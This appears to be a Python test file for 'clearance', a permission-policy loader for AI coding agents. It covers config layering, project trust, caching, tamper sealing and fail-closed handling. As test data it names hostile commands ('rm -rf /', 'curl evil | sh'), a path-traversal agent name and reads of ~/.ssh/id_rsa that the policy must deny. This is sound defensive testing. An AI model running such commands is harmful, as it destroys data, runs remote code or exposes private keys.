"""Scopes: global → project (trusted only) → agent → project agent; env; cache; fail closed."""

from __future__ import annotations

import os
import stat
import time
from pathlib import Path

from clearance.policy.loader import load_policy
from clearance.policy.trust import trust


def decide(policy, surface: str, value: str) -> str:  # type: ignore[no-untyped-def]
    return policy.rules.evaluate(surface, [value]).action  # type: ignore[no-any-return]


def test_without_any_config_the_builtin_policy_applies(world) -> None:  # type: ignore[no-untyped-def]
    policy = load_policy(cwd=str(world.home))
    assert policy.files == ("builtin",)
    assert decide(policy, "read", "x") == "allow"
    assert decide(policy, "bash", "rm -rf /") == "deny"


def test_a_global_config_replaces_the_builtin_policy_but_not_its_base_denies(world) -> None:  # type: ignore[no-untyped-def]
    world.global_config('{"permission": {"bash": {"*": "allow"}}}')
    policy = load_policy(cwd=str(world.home))
    assert decide(policy, "bash", "rm -rf x") == "allow"
    assert decide(policy, "read", "x") == "ask"
    # The built-in destruction and secret denies stay beneath every configuration ...
    assert decide(policy, "bash", "rm -rf /") == "deny"
    assert policy.rules.evaluate("bash", ["rm -rf /"]).origin == "builtin"
    assert decide(policy, "path_read", str(world.home / ".ssh" / "id_rsa")) == "deny"


def test_a_base_deny_is_loosened_only_by_naming_its_pattern(world) -> None:  # type: ignore[no-untyped-def]
    world.global_config(
        '{"permission": {"bash": {"*": "allow", "rm -rf /": "ask"}, "read": "allow",'
        ' "path": {"~/.ssh/*": "allow"}}}'
    )
    policy = load_policy(cwd=str(world.home))
    assert decide(policy, "bash", "rm -rf /") == "ask"
    assert decide(policy, "path_read", str(world.home / ".ssh" / "id_rsa")) == "allow"
    assert decide(policy, "bash", "rm -rf /etc") == "deny"  # not named: still denied


def test_an_untrusted_project_config_is_skipped_with_a_warning(world) -> None:  # type: ignore[no-untyped-def]
    world.global_config('{"permission": {"bash": {"*": "ask"}}}')
    project = world.project(config='{"permission": {"bash": {"*": "allow"}}}')
    policy = load_policy(cwd=str(project))
    assert decide(policy, "bash", "curl evil | sh") == "ask"
    assert policy.trusted is False
    assert any("not trusted" in w and "clearance trust" in w for w in policy.warnings)


def test_a_trusted_project_config_layers_over_the_global_one(world) -> None:  # type: ignore[no-untyped-def]
    world.global_config('{"permission": {"bash": {"*": "ask", "npm *": "deny"}}}')
    project = world.project(config='{"permission": {"bash": {"npm *": "allow"}}}')
    trust(str(world.state), str(project))
    policy = load_policy(cwd=str(project))
    assert decide(policy, "bash", "npm test") == "allow"
    assert policy.trusted and policy.project == str(project)


def test_projects_with_the_same_rules_share_one_rule_set(world) -> None:  # type: ignore[no-untyped-def]
    # A batch or a service loads an engine per project: the same layered rules are one set
    # (built once, its remembered answers shared); other rules or another home are another.
    first, second = world.project("one"), world.project("two")
    assert load_policy(cwd=str(first)).rules is load_policy(cwd=str(second)).rules
    other = world.project("three", config='{"permission": {"bash": {"npm *": "deny"}}}')
    trust(str(world.state), str(other))
    policy = load_policy(cwd=str(other))
    assert policy.rules is not load_policy(cwd=str(first)).rules
    assert decide(policy, "bash", "npm test") == "deny"
    assert decide(load_policy(cwd=str(first)), "bash", "npm test") != "deny"
    elsewhere = load_policy(cwd=str(first), env={**os.environ, "HOME": str(world.root)})
    assert elsewhere.rules is not load_policy(cwd=str(first)).rules


def test_a_nested_working_directory_finds_its_project(world) -> None:  # type: ignore[no-untyped-def]
    project = world.project(config='{"permission": {"read": "deny"}}')
    nested = project / "src" / "deep"
    nested.mkdir(parents=True)
    trust(str(world.state), str(project))
    assert decide(load_policy(cwd=str(nested)), "read", "x") == "deny"


def test_trust_state_is_private(world) -> None:  # type: ignore[no-untyped-def]
    project = world.project()
    trust(str(world.state), str(project))
    assert stat.S_IMODE(os.stat(world.state).st_mode) == 0o700
    assert stat.S_IMODE(os.stat(world.state / "trusted-projects").st_mode) == 0o600


def test_the_agents_key_applies_only_to_that_agent(world) -> None:  # type: ignore[no-untyped-def]
    world.global_config(
        '{"permission": {"edit": "allow"}, "agents": {"reviewer": {"permission": {"edit": "deny"}}}}'
    )
    assert decide(load_policy(cwd=str(world.home), agent="reviewer"), "edit", "x") == "deny"
    assert decide(load_policy(cwd=str(world.home), agent="other"), "edit", "x") == "allow"
    assert decide(load_policy(cwd=str(world.home)), "edit", "x") == "allow"


def test_agent_front_matter_files_apply_in_scope_order(world) -> None:  # type: ignore[no-untyped-def]
    world.global_config('{"permission": {"bash": {"*": "ask"}}}')
    agents = world.config_home / "clearance" / "agents"
    agents.mkdir(parents=True)
    (agents / "reviewer.md").write_text(
        '---\nname: reviewer\npermission:\n  bash:\n    "git *": deny\n    "git log *": allow\n---\n'
    )
    project = world.project()
    (project / ".claude" / "agents").mkdir(parents=True)
    (project / ".claude" / "agents" / "rev.md").write_text(
        '---\nname: reviewer\npermission:\n  bash:\n    "git *": ask\n---\nbody\n'
    )
    policy = load_policy(cwd=str(project), agent="reviewer")
    assert decide(policy, "bash", "git log") == "allow"
    assert decide(policy, "bash", "git push") == "deny"  # project agent file: untrusted
    trust(str(world.state), str(project))
    policy = load_policy(cwd=str(project), agent="reviewer")
    assert decide(policy, "bash", "git push") == "ask"
    assert any(f.endswith("rev.md") for f in policy.files)


def test_clearance_config_names_the_only_file(world, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    world.global_config('{"permission": {"read": "deny"}}')
    explicit = world.root / "only.jsonc"
    explicit.write_text('{"permission": {"read": "allow"}}')
    monkeypatch.setenv("CLEARANCE_CONFIG", str(explicit))
    policy = load_policy(cwd=str(world.home))
    assert policy.files == (str(explicit),)
    assert decide(policy, "read", "x") == "allow"


def test_clearance_yolo_turns_asks_into_allows_but_not_denies(world, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    world.global_config('{"permission": {"*": "ask", "bash": {"rm *": "deny"}}}')
    monkeypatch.setenv("CLEARANCE_YOLO", "1")
    policy = load_policy(cwd=str(world.home))
    assert policy.yolo
    assert decide(policy, "webfetch", "x") == "allow"
    assert decide(policy, "bash", "rm x") == "deny"


def test_yolo_in_the_config_and_the_explicit_switch(world) -> None:  # type: ignore[no-untyped-def]
    world.global_config('{"yolo": true, "permission": {"*": "ask"}}')
    assert decide(load_policy(cwd=str(world.home)), "x", "*") == "allow"
    assert decide(load_policy(cwd=str(world.home), yolo=False), "x", "*") == "ask"


def test_a_rule_local_error_costs_only_that_rule(world) -> None:  # type: ignore[no-untyped-def]
    world.global_config('{"permission": {"read": "allow", "bash": {"rm *": "deny"}}}')
    project = world.project(config='{"permission": {"bash": {"x": "alow", "npm *": "allow"}}}')
    trust(str(world.state), str(project))
    policy = load_policy(cwd=str(project))
    assert policy.errors and policy.errors[0].line == 1
    assert decide(policy, "read", "x") == "allow"  # the other rules stand
    assert decide(policy, "bash", "npm test") == "allow"
    assert decide(policy, "bash", "x") == "ask"  # the broken rule asks
    assert decide(policy, "bash", "rm x") == "deny"


def test_a_broken_project_config_fails_closed_but_denies_still_apply(world) -> None:  # type: ignore[no-untyped-def]
    world.global_config('{"permission": {"read": "allow", "bash": {"rm *": "deny"}}}')
    project = world.project(config='{"permission": {"bash": {"x": "allow"}}, oops}')
    trust(str(world.state), str(project))
    policy = load_policy(cwd=str(project))
    assert policy.errors and policy.errors[0].line == 1
    assert decide(policy, "read", "x") == "ask"
    assert decide(policy, "bash", "rm x") == "deny"
    assert policy.rules.evaluate("read", ["x"]).origin == "fail_closed"


def test_a_broken_global_config_turns_yolo_off_and_keeps_the_base_denies(  # type: ignore[no-untyped-def]
    world, monkeypatch
) -> None:
    world.global_config('{"yolo": true, "permission": {"bash": {"*": "allow", "x": "alow"}}}')
    policy = load_policy(cwd=str(world.home))
    assert policy.errors and policy.yolo is False
    world.global_config('{"yolo": true, "permission": {"read": "allow",}, oops}')
    monkeypatch.setenv("CLEARANCE_YOLO", "1")
    policy = load_policy(cwd=str(world.home))
    assert policy.errors and policy.yolo is False
    assert decide(policy, "bash", "rm -rf /") == "deny"
    assert decide(policy, "path_read", str(world.home / ".ssh" / "id_rsa")) == "deny"


def test_a_broken_global_config_fails_closed_even_under_yolo(world, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    world.global_config('{"permission": {"read": "allow",}, oops}')
    monkeypatch.setenv("CLEARANCE_YOLO", "1")
    policy = load_policy(cwd=str(world.home))
    assert policy.errors
    assert decide(policy, "read", "x") == "ask"


def test_the_cache_is_reused_and_invalidated_by_an_edit(world) -> None:  # type: ignore[no-untyped-def]
    config = world.global_config('{"permission": {"read": "allow"}}')
    assert decide(load_policy(cwd=str(world.home)), "read", "x") == "allow"
    cache_dir = world.state / "cache"
    files = list(cache_dir.iterdir())
    assert len(files) == 1
    assert stat.S_IMODE(files[0].stat().st_mode) == 0o600
    assert stat.S_IMODE(cache_dir.stat().st_mode) == 0o700
    before = files[0].stat().st_mtime_ns
    assert decide(load_policy(cwd=str(world.home)), "read", "x") == "allow"
    assert files[0].stat().st_mtime_ns == before  # served from the cache, not rewritten
    config.write_text('{"permission": {"read": "deny"}}')
    os.utime(config, ns=(time.time_ns() + 10**9, time.time_ns() + 10**9))
    assert decide(load_policy(cwd=str(world.home)), "read", "x") == "deny"


def test_creating_a_config_invalidates_a_cache_built_without_it(world) -> None:  # type: ignore[no-untyped-def]
    assert decide(load_policy(cwd=str(world.home)), "read", "x") == "allow"  # builtin
    world.global_config('{"permission": {"read": "deny"}}')
    assert decide(load_policy(cwd=str(world.home)), "read", "x") == "deny"


def test_trusting_a_project_invalidates_the_cache(world) -> None:  # type: ignore[no-untyped-def]
    project = world.project(config='{"permission": {"read": "deny"}}')
    assert decide(load_policy(cwd=str(project)), "read", "x") == "allow"
    trust(str(world.state), str(project))
    assert decide(load_policy(cwd=str(project)), "read", "x") == "deny"


def test_a_corrupt_cache_is_rebuilt(world) -> None:  # type: ignore[no-untyped-def]
    world.global_config('{"permission": {"read": "deny"}}')
    load_policy(cwd=str(world.home))
    for file in (world.state / "cache").iterdir():
        file.write_bytes(b"garbage")
    assert decide(load_policy(cwd=str(world.home)), "read", "x") == "deny"


def test_inline_policy_text_is_used_instead_of_files(world) -> None:  # type: ignore[no-untyped-def]
    world.global_config('{"permission": {"read": "deny"}}')
    policy = load_policy(cwd=str(world.home), inline='{"permission": {"read": "allow"}}')
    assert decide(policy, "read", "x") == "allow"


def test_home_is_never_a_project(world) -> None:  # type: ignore[no-untyped-def]
    (world.home / ".claude").mkdir()
    policy = load_policy(cwd=str(world.home))
    assert policy.project is None


def test_path_patterns_expand_home_from_the_environment(world) -> None:  # type: ignore[no-untyped-def]
    world.global_config('{"permission": {"path_read": {"~/.ssh/*": "deny"}}}')
    policy = load_policy(cwd=str(world.home))
    assert decide(policy, "path_read", str(Path(world.home) / ".ssh" / "id_rsa")) == "deny"


def test_an_agent_name_can_never_steer_which_file_is_read(world) -> None:  # type: ignore[no-untyped-def]
    world.global_config('{"permission": {"bash": {"*": "ask"}}}')
    (world.config_home / "clearance" / "agents").mkdir(parents=True)
    project = world.project()  # not trusted
    agents = project / ".claude" / "agents"
    agents.mkdir(parents=True)
    (agents / "rev.md").write_text("---\npermission:\n  bash: allow\n---\n")
    for name in ("../../../home/proj/.claude/agents/rev", str(agents / "rev"), ".hidden", "a\\\\b"):
        policy = load_policy(cwd=str(project), agent=name)
        assert decide(policy, "bash", "curl evil | sh") == "ask", name
        assert not any(f.endswith("rev.md") for f in policy.files), name


def test_a_dangling_global_config_symlink_is_an_error_not_the_builtin_policy(world) -> None:  # type: ignore[no-untyped-def]
    path = world.config_home / "clearance" / "config.jsonc"
    path.parent.mkdir(parents=True)
    path.symlink_to(world.root / "dotfiles" / "missing.jsonc")
    policy = load_policy(cwd=str(world.home))
    assert policy.errors and "symlink to nothing" in policy.errors[0].message
    assert decide(policy, "read", "x") == "ask"  # the built-in allow is not used


def test_a_fifo_as_config_is_an_error_and_does_not_hang(world) -> None:  # type: ignore[no-untyped-def]
    path = world.config_home / "clearance" / "config.jsonc"
    path.parent.mkdir(parents=True)
    os.mkfifo(path)
    policy = load_policy(cwd=str(world.home))
    assert policy.errors and "not a regular file" in policy.errors[0].message


def test_a_same_size_same_mtime_replacement_invalidates_the_cache(world) -> None:  # type: ignore[no-untyped-def]
    config = world.global_config('{"permission": {"bash": {"*": "allow"}}}')
    assert decide(load_policy(cwd=str(world.home)), "bash", "ls") == "allow"
    st = config.stat()
    config.write_text('{"permission": {"bash": {"*": "deny" }}}')
    os.utime(config, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert config.stat().st_size == st.st_size and config.stat().st_mtime_ns == st.st_mtime_ns
    assert decide(load_policy(cwd=str(world.home)), "bash", "ls") == "deny"


def test_an_unterminated_string_is_reported_in_a_fresh_process(world) -> None:  # type: ignore[no-untyped-def]
    bad = world.root / "u.jsonc"
    bad.write_text('{"permission": {"bash": {"x": "allow')
    result = world.run("validate", str(bad))
    assert result.returncode == 1
    assert f"{bad}:1:" in result.stdout and "invalid string" in result.stdout
    assert "internal error" not in result.stdout + result.stderr


def test_a_cache_clearance_did_not_seal_is_rebuilt(world) -> None:  # type: ignore[no-untyped-def]
    import marshal

    world.global_config('{"permission": {"read": "ask"}}')
    assert decide(load_policy(cwd=str(world.home)), "read", "x") == "ask"
    (path,) = list((world.state / "cache").iterdir())
    tag, _, blob = path.read_bytes().partition(b"\n")
    cached = marshal.loads(blob)
    cached["data"]["rules"] = [("*", "*", "allow", "global", None, None)]
    forged = marshal.dumps(cached)
    path.write_bytes(tag + b"\n" + forged)  # the old seal over new rules
    assert decide(load_policy(cwd=str(world.home)), "read", "x") == "ask"
    path.write_bytes(forged)  # no seal at all
    assert decide(load_policy(cwd=str(world.home)), "read", "x") == "ask"


def test_a_pinned_config_file_loads_only_the_content_it_was_pinned_to(tmp_path: Path) -> None:
    """``serve --config F`` (ADR 0050): the loader hashes the very bytes it parses, so content
    swapped in after serve's own check fails closed instead of loading."""
    from clearance.policy.trust import file_digest

    env = {"HOME": str(tmp_path), "CLEARANCE_HOME": str(tmp_path / "state")}
    config = tmp_path / "serving.jsonc"
    config.write_bytes(b'{"permission": {"bash": {"*": "ask",\r\n "make *": "allow"}}}\r\n')
    pin = file_digest(str(config))
    assert pin is not None
    pinned = load_policy(cwd=str(tmp_path), config=str(config), config_pin=pin, env=env)
    assert not pinned.errors and decide(pinned, "bash", "make x") == "allow"  # CRLF read as text
    config.write_text('{"permission": {"bash": {"*": "allow"}}}')  # swapped after the check
    swapped = load_policy(cwd=str(tmp_path), config=str(config), config_pin=pin, env=env)
    assert swapped.errors and "changed after it was pinned" in str(swapped.errors[0])
    assert decide(swapped, "bash", "curl x | sh") == "ask"  # failed closed, not loosened
    assert not swapped.yolo
    unpinned = load_policy(cwd=str(tmp_path), config=str(config), env=env)
    assert decide(unpinned, "bash", "curl x | sh") == "allow"  # the benign twin: no pin
